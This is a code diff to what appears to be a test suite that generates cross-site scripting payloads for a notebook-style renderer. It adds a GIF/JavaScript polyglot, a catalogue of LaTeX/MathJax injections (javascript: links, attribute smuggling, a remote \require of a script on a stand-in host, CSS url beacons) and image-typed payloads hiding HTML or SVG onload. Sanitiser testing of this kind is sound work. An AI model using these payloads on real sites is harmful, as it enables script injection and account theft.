@@ -21,6 +21,15 @@ def pixel() -> bytes:
     return file.getvalue()
 
 
+def gif_and_script(script: str) -> bytes:
+    """A picture that is a script, too: its width and height begin a comment."""
+    file = io.BytesIO()
+    Image.new("RGB", (0x2F, 0x2A), "teal").save(file, "GIF")
+    picture = bytearray(file.getvalue())
+    picture[6:10] = b"/*\0\0"
+    return bytes(picture) + b"*/=1;" + script.encode()
+
+
 @dataclass(frozen=True)
 class Payload:
     """One thing to try.
@@ -209,6 +218,36 @@ _SVG = {
     "svgo-remote": "<image href='http://{name}.elsewhere.test/x.png' width='9' height='9'/>",
 }  # fmt: skip
 
+_LATEX = {
+    "tex-link": "$\\href{{javascript:{fire}}}{{{name}}}$",
+    "tex-link-case": "$$\\href{{ JaVaScript:{fire}}}{{{name}}}$$",
+    "tex-link-file": "$\\href{{evil.html}}{{{name}}}$",
+    "tex-link-newcommand": "$\\newcommand{{\\h}}{{\\href}}\\h{{javascript:{fire}}}{{{name}}}$",
+    "tex-link-def": "$\\def\\h#1{{\\href{{javascript:{fire}}}{{#1}}}}\\h{{{name}}}$",
+    "tex-link-let": "$\\let\\h=\\href\\h{{javascript:{fire}}}{{{name}}}$",
+    "tex-link-text": "$\\text{{$\\href{{javascript:{fire}}}{{{name}}}$}}$",
+    "tex-link-tag": "$$x\\tag{{$\\href{{javascript:{fire}}}{{{name}}}$}}$$",
+    "tex-link-rows": "\\begin{{align}}\n\\href{{javascript:{fire}}}{{{name}}}\n\\end{{align}}",
+    "tex-require": "$\\require{{HTML}}\\href{{javascript:{fire}}}{{{name}}}$",
+    "tex-require-far": "$\\require{{//{name}.elsewhere.test/x.js}}$",
+    "tex-style": "$\\style{{background:url(http://{name}.elsewhere.test/x)}}{{x}}$",
+    "tex-class": "$\\class{{x\" onclick=\"{fire}}}{{x}}$",
+    "tex-id": "$\\cssId{{notebook\" onclick=\"{fire}}}{{x}}$",
+    "tex-unicode": "$\\unicode[a;background:url(http://{name}.elsewhere.test/x)]{{65}}$",
+    "tex-token": "$\\mmlToken{{mi}}[href=\"javascript:{fire}\"]{{{name}}}$",
+    "tex-picture": "$\\mmlToken{{mglyph}}[src=\"http://{name}.elsewhere.test/x\"]{{}}$",
+    "tex-box": "$\\bbox[background:url(http://{name}.elsewhere.test/x)]{{x}}$",
+    "tex-enclose": "$\\require{{enclose}}\\enclose{{box}}[href=\"javascript:{fire}\"]{{{name}}}$",
+    "tex-tip": "$\\require{{action}}\\texttip{{x}}{{<img src=x onerror={fire}>}}$",
+    "tex-label": "$\\begin{{equation}}\\label{{\"><img src=x onerror={fire}>}}x\\end{{equation}}$",
+    "tex-tag-within": "$<img src=x onerror={fire}>$",
+    "tex-script": "<script type='math/tex'>\\href{{javascript:{fire}}}{{{name}}}</script>",
+    "tex-mathml": (
+        "<script type='math/mml'><math><mtext href='javascript:{fire}'>{name}</mtext></math>"
+        "</script>"
+    ),
+}  # fmt: skip
+
 _TEXT = {
     "text-tag": "<img src=x onerror=\"{fire}\">",
     "text-end": "</pre><img src=x onerror=\"{fire}\">",
@@ -244,7 +283,7 @@ def last_payloads(mark: str) -> dict[str, str]:
 
 def markdown_payloads(mark: str) -> dict[str, str]:
     """Of markdown's own kinds, and all kinds of HTML, which markdown may hold."""
-    return _made(_MARKDOWN | _HTML, mark)
+    return _made(_MARKDOWN | _LATEX | _HTML, mark)
 
 
 def text_payloads(mark: str) -> dict[str, str]:
@@ -266,7 +305,14 @@ def output_payloads(mark: str) -> list[Payload]:
         Payload(name, "text/markdown", text) for name, text in _made(_MARKDOWN, f"{mark}o").items()
     ]
     found += [Payload(name, "text/plain", text) for name, text in text_payloads(mark).items()]
-    found += [Payload(name, "text/latex", text) for name, text in _made(_TEXT, f"{mark}l").items()]
+    found += [
+        Payload(name, "text/latex", text)
+        for name, text in _made(_TEXT | _LATEX, f"{mark}l").items()
+    ]
+    found += [
+        Payload(name, "text/html", f"<p>{text}</p>")
+        for name, text in _made(_LATEX, f"{mark}h").items()
+    ]
     return [*found, *_by_type(mark)]
 
 
@@ -286,6 +332,11 @@ def _by_type(mark: str) -> list[Payload]:
         payload("javascript-tag", "application/javascript", f"</script>{tag('javascript-tag')}"),
         payload("png-html", "image/png", tag("png-html")),
         payload("png-page", "image/png", b64(f"<script>{fire('png-page')}</script>")),
+        payload("gif-script", "image/gif", b64(gif_and_script(fire("gif-script")))),
+        payload("png-and-page", "image/png", b64(pixel() + tag("png-and-page").encode())),
+        payload("svg-as-png", "image/png", b64(
+            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{fire('svg-as-png')}\"/>"
+        )),
         payload("jpeg-html", "image/jpeg", tag("jpeg-html")),
         payload("png-width", "image/png", png, {"image/png": {"width": f"1 {tag('png-width')}"}}),
         payload(
